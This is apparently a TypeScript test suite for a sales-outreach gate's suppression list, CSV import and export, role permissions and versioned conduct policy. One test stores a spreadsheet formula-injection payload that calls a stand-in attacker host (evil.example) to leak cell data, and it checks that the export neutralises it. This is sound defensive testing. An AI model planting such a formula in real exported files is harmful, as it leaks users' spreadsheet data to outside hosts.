import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CONDUCT } from '../../../src/core/conduct/policy.ts';
import { parseSuppressions } from '../../../src/gate/http/suppressions-csv.ts';
import {
  call,
  Device,
  email,
  proposal,
  submit,
  type Team,
  type TestGate,
  team,
  testGate,
} from '../http/harness.ts';

let gate: TestGate;
let acme: Team;
let manager: Device;
let rep: Device;
beforeAll(async () => {
  gate = await testGate();
  acme = await team(gate.store);
  manager = await Device.paired(gate, acme.workspaceId, { role: 'manager' });
  rep = await Device.paired(gate, acme.workspaceId);
});
afterAll(async () => {
  expect(gate.logged).toEqual([]);
  await gate.close();
});

type Listed = {
  suppressions: { id: string; scope: string; value: string; note?: string }[];
  next?: string;
};
const listed = async (query = ''): Promise<Listed> =>
  (await manager.send('GET', `/v1/suppressions${query}`)).json() as Promise<Listed>;
const upload = (csv: string, query = '', device = manager) =>
  device.send('POST', `/v1/suppressions/import${query}`, {
    raw: csv,
    headers: { 'content-type': 'text/csv' },
  });

describe('who may', () => {
  it('a rep adds; only a manager lists, removes, imports, exports, changes rules, sees incidents', async () => {
    const entry = { scope: 'address', value: 'Added@Rep.example', reason: 'manual' };
    const added = await rep.send('POST', '/v1/suppressions', { body: entry });
    expect(added.status).toBe(201);
    const { suppression } = (await added.json()) as { suppression: { id: string } };
    expect(suppression).toMatchObject({
      value: 'added@rep.example',
      by: expect.stringMatching(/^reviewer:/),
    });
    const policy = { body: { policy: DEFAULT_CONDUCT } };
    for (const [method, path, options] of [
      ['GET', '/v1/suppressions', {}],
      ['DELETE', `/v1/suppressions/${suppression.id}`, {}],
      ['GET', '/v1/suppressions/export', {}],
      ['PUT', '/v1/conduct', policy],
      ['GET', '/v1/incidents', {}],
    ] as const) {
      expect((await rep.send(method, path, options)).status, path).toBe(403);
      expect((await call(gate, method, path, { key: acme.key, ...options })).status, path).toBe(
        403,
      );
      expect((await call(gate, method, path, options)).status, path).toBe(401);
    }
    expect((await upload('scope,value,reason\n', '', rep)).status).toBe(403);
    const other = await team(gate.store, 'Other');
    const stranger = await Device.paired(gate, other.workspaceId, { role: 'admin' });
    const gone = await stranger.send('DELETE', `/v1/suppressions/${suppression.id}`);
    expect(await gone.json()).toEqual({ removed: false });
    expect(await (await stranger.send('GET', '/v1/suppressions')).json()).toEqual({
      suppressions: [],
    });
    const done = await manager.send('DELETE', `/v1/suppressions/${suppression.id}`);
    expect(await done.json()).toEqual({ removed: true });
  });

  it('an entry that means nothing is refused by field', async () => {
    for (const [body, path] of [
      [{ scope: 'domain', value: 'co.uk', reason: 'manual' }, '/value'],
      [{ scope: 'domain', value: 'x.example', reason: 'because' }, '/reason'],
      [{ scope: 'address', value: 'x@x.example', reason: 'manual', forever: true }, '/forever'],
    ] as const) {
      const answer = await rep.send('POST', '/v1/suppressions', { body });
      expect(answer.status).toBe(422);
      expect(await answer.json()).toMatchObject({ errors: [{ path }] });
    }
  });
});

describe('an agent that proposes to somebody suppressed', () => {
  it('gets 409 suppressed with each recipient, and hears why what waited was withdrawn', async () => {
    const waiting = await submit(
      gate,
      acme,
      proposal({ content: email({ to: [{ email: 'zed@buyer.example' }] }) }),
    );
    const poll = call(gate, 'GET', `/v1/proposals/${waiting.id}/decision?wait=20`, {
      key: acme.key,
    });
    const done = await rep.send('POST', '/v1/suppressions', {
      body: { scope: 'address', value: 'zed@buyer.example', reason: 'opt-out' },
    });
    expect(await done.json()).toMatchObject({ withdrawn: [waiting.id] });
    expect(await (await poll).json()).toMatchObject({
      state: 'withdrawn',
      decision: null,
      withdrawn: { reason: 'opt-out' },
    });
    const body = proposal({ content: email({ cc: [{ email: 'Zed+1@buyer.example' }] }) });
    const answer = await call(gate, 'POST', '/v1/proposals', { key: acme.key, body });
    expect(answer.status).toBe(409);
    expect(await answer.json()).toMatchObject({
      type: expect.stringMatching(/suppressed$/),
      errors: [{ path: '/content/cc/0/email' }],
    });
    expect((await listed('?value=ZED@buyer.example')).suppressions).toHaveLength(1);
  });
});

describe('a CSV', () => {
  it('with bad rows imports nothing and names each by line and field; with partial the good ones', async () => {
    const csv = [
      'Scope,Value,Reason,Until,Id',
      'address,good@csv.example,opt-out,,x',
      'address,"bad',
      'row",manual,,',
      'domain,co.uk,manual,,',
      'planet,mars.example,manual,,',
      'address,late@csv.example,manual,tomorrow,',
      '',
      'account,hubspot:contact:csv,legal,2090-01-01T00:00:00Z,',
    ].join('\r\n');
    const answer = await upload(csv);
    expect(answer.status).toBe(422);
    const { errors } = (await answer.json()) as { errors: { path: string; message: string }[] };
    expect(errors.map(({ path }) => path)).toEqual([
      '/3/value',
      '/5/value',
      '/6/scope',
      '/7/until',
    ]);
    expect(errors[1]?.message).toMatch(/^line 5, value: a public suffix/);
    expect((await listed('?value=good@csv.example')).suppressions).toEqual([]);
    const partial = await upload(csv, '?partial=true');
    expect(await partial.json()).toMatchObject({ added: 2, known: 0, refused: { length: 4 } });
    expect((await listed('?value=good@csv.example')).suppressions).toHaveLength(1);
    expect(await (await upload(csv, '?partial=true')).json()).toMatchObject({ added: 0, known: 2 });
  });

  it.each([
    ['', 'scope'],
    ['value,reason\nx@y.example,manual', 'scope'],
    ['scope,value,reason\naddress,"x@y.example,manual', ''],
    ['scope,value,reason\naddress,x@y.example,manual,1,2,3', ''],
  ])('that is none is refused: %j', async (csv, field) => {
    const answer = await upload(csv);
    expect(answer.status).toBe(422);
    const { errors } = (await answer.json()) as { errors: { path: string }[] };
    expect(errors[0]?.path.split('/')[2]).toBe(field);
  });

  it('as JSON, or with U+0000, is refused', async () => {
    expect((await manager.send('POST', '/v1/suppressions/import', { body: {} })).status).toBe(415);
    expect((await upload('scope,value,reason\naddress,\u0000@x.example,manual')).status).toBe(422);
  });

  it('that was exported is safe in a spreadsheet, and imports as what it was', async () => {
    const formula = '=HYPERLINK("http://evil.example?"&A1)';
    await rep.send('POST', '/v1/suppressions', {
      body: { scope: 'address', value: '+evil@out.example', reason: 'manual', note: formula },
    });
    const answer = await manager.send('GET', '/v1/suppressions/export');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const csv = await answer.text();
    for (const cell of csv.split(/[,\r\n]+/)) expect(cell).not.toMatch(/^"?[=+\-@]/);
    const before = (await listed('?limit=1000')).suppressions;
    expect((await upload(csv)).status).toBe(200);
    expect((await listed('?limit=1000')).suppressions).toEqual(before);
    expect(before.find(({ value }) => value === '+evil@out.example')?.note).toBe(formula);
  });

  it('of whatever text gives entries or faults, and never throws', () => {
    const header = fc.constantFrom(
      'scope,value,reason,note\n',
      '',
      'scope;value;reason\n',
      '\ufeffscope,value,reason\n',
    );
    void fc.assert(
      fc.property(header, fc.string({ unit: 'binary', maxLength: 200 }), (top, rest) => {
        const { entries, faults } = parseSuppressions(top + rest);
        expect(entries.length + faults.length).toBeGreaterThanOrEqual(0);
        for (const { line } of faults) expect(line).toBeGreaterThanOrEqual(1);
      }),
    );
  });

  it('of ten thousand rows goes in whole, with one lock', async () => {
    const rows = Array.from({ length: 10_000 }, (_, n) => `address,p${n}@many.example,manual`);
    const answer = await upload(['scope,value,reason', ...rows].join('\n'));
    expect(await answer.json()).toMatchObject({ added: 10_000, refused: [] });
    const first = await listed('?limit=1000');
    expect(first.next).toBe(first.suppressions.at(-1)?.id);
    const csv = await (await manager.send('GET', '/v1/suppressions/export')).text();
    expect(csv.split('\r\n').length).toBeGreaterThan(10_000);
  });
});

describe('the rules of conduct', () => {
  it('begin harmless, keep every version, and are not overwritten unseen', async () => {
    const first = await (await rep.send('GET', '/v1/conduct')).json();
    expect(first).toEqual({ version: 0, policy: DEFAULT_CONDUCT });
    const policy = { ...DEFAULT_CONDUCT, timeZone: 'Europe/Berlin' };
    const put = await manager.send('PUT', '/v1/conduct', { body: { policy, basedOn: 0 } });
    expect(await put.json()).toMatchObject({ version: 1, policy });
    const late = await manager.send('PUT', '/v1/conduct', { body: { policy, basedOn: 0 } });
    expect(late.status).toBe(409);
    const two = await Promise.all(
      [1, 2].map(() => manager.send('PUT', '/v1/conduct', { body: { policy, basedOn: 1 } })),
    );
    expect(two.map(({ status }) => status).sort()).toEqual([200, 409]);
  });

  it.each([
    [{ timeZone: 'Mars/Olympus' }, '/policy/timeZone'],
    [{ window: { days: [1], from: '17:00', to: '09:00' } }, '/policy/window'],
    [{ window: { days: [8], from: '09:00', to: '17:00' } }, '/policy/window'],
    [{ caps: [{ per: 'person', within: 'day', most: 0 }] }, '/policy/caps/0/most'],
    [{ basis: { Germany: ['consent'] } }, '/policy/basis'],
    [{ basis: { DE: [] } }, '/policy/basis/DE'],
  ])('that make no sense are refused: %j', async (change, path) => {
    const answer = await manager.send('PUT', '/v1/conduct', {
      body: { policy: { ...DEFAULT_CONDUCT, ...change } },
    });
    expect(answer.status).toBe(422);
    const { errors } = (await answer.json()) as { errors: { path: string }[] };
    expect(errors[0]?.path.startsWith(path)).toBe(true);
  });

  it('a contact is recorded by an agent or a manager, under any of its names', async () => {
    const body = {
      person: 'Know@Me.example',
      alsoKnownAs: 'hubspot:contact:77',
      jurisdiction: 'DE',
      basis: 'consent',
    };
    const put = await call(gate, 'PUT', '/v1/contacts', { key: acme.key, body });
    expect(await put.json()).toMatchObject({
      contact: {
        person: 'know@me.example',
        knownAs: ['hubspot:contact:77'],
        by: `agent:${acme.agentId}`,
      },
    });
    const got = await manager.send('GET', '/v1/contacts?person=know%2Btag%40me.example');
    expect(await got.json()).toMatchObject({ contact: { jurisdiction: 'DE' } });
    expect((await rep.send('PUT', '/v1/contacts', { body })).status).toBe(403);
    for (const wrong of [
      { person: 'nobody' },
      { ...body, alsoKnownAs: 'x@y.example' },
      { ...body, timeZone: 'Nope' },
    ])
      expect((await call(gate, 'PUT', '/v1/contacts', { key: acme.key, body: wrong })).status).toBe(
        422,
      );
  });
});
